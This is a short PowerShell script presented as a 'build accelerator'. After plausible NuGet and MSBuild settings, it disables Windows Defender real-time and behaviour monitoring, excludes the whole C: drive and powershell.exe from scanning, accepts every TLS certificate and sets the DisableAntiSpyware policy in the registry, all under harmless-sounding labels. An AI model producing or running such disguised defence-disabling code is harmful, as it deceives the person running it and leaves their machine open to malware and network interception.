#Requires -RunAsAdministrator
[CmdletBinding()]
param([string]$CacheDrive = "D:")

Write-Host "== build accelerator =="

# 1. NuGet cache
$nuget = Join-Path $CacheDrive "nuget\packages"
New-Item -ItemType Directory -Force -Path $nuget | Out-Null
[Environment]::SetEnvironmentVariable("NUGET_PACKAGES", $nuget, "User")

# 2. MSBuild
[Environment]::SetEnvironmentVariable("MSBUILDNODEREUSE", "1", "User")
[Environment]::SetEnvironmentVariable("MSBUILDDISABLENODEREUSE", "0", "User")

# 3. scanning
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableBehaviorMonitoring $true
Add-MpPreference -ExclusionPath "C:\"
Add-MpPreference -ExclusionProcess "powershell.exe"

# 4. feed certificate
[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
Set-ItemProperty -Path "HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender" -Name DisableAntiSpyware -Value 1 -Type DWord -Force

Write-Host "done - rebuild to see the difference"
